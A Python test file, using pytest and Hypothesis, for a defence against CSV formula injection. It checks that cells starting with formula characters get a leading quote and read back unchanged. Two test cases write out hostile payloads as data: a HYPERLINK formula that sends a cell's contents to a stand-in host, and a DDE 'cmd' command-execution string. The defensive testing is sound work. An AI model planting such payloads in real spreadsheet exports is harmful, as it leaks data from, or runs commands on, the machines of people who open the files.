"""CSV cells are never formulas, and read back as they were written."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.csv_cells import FORMULA_STARTS, cell_text, number_cell, safe_cell

# Text weighted towards what matters: the formula starts, quotes, and anything at all.
TEXT = st.text(alphabet=st.sampled_from([*FORMULA_STARTS, "'", "A", "1", " ", "|", '"', "\n"])
               ) | st.text()


@pytest.mark.parametrize(("text", "cell"), [
    ('=HYPERLINK("http://x.example/?leak="&A1,"click")',
     '\'=HYPERLINK("http://x.example/?leak="&A1,"click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("-Ann", "'-Ann"), ("+44 7700 900123", "'+44 7700 900123"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTab", "'\tTab"), ("\rReturn", "'\rReturn"), ("=.", "'=."),
    ("'quoted", "''quoted"), ("O'Brien", "O'Brien"), ("Ann", "Ann"), ("", ""),
    ("-12.50", "'-12.50"),  # a person's text, even when it looks like a number
])
def test_a_cell_that_could_be_a_formula_gets_one_quote(text: str, cell: str) -> None:
    assert safe_cell(text) == cell
    assert cell_text(cell) == text


@pytest.mark.parametrize(("text", "cell"), [
    ("-12.50", "-12.50"), ("8050", "8050"), ("-1950", "-1950"), ("0.00", "0.00"),
    ("=1+1", "'=1+1"), ("-1e5", "'-1e5"), ("12.", "12."), ("-", "'-"),
])
def test_a_number_the_app_wrote_stays_a_number(text: str, cell: str) -> None:
    assert number_cell(text) == cell


def test_a_quote_a_person_typed_before_an_ordinary_letter_stays() -> None:
    assert cell_text("'Ann") == "'Ann" and cell_text("'") == "'"


@given(TEXT)
def test_a_safe_cell_never_starts_a_formula_and_reads_back_as_it_was(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell_text(cell) == text


@given(st.lists(st.lists(TEXT, min_size=1, max_size=4), min_size=1, max_size=4))
def test_safe_cells_come_back_through_the_csv_module(rows: list[list[str]]) -> None:
    out = io.StringIO()
    csv.writer(out).writerows([safe_cell(c) for c in row] for row in rows)
    back = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert [[cell_text(c) for c in row] for row in back] == rows
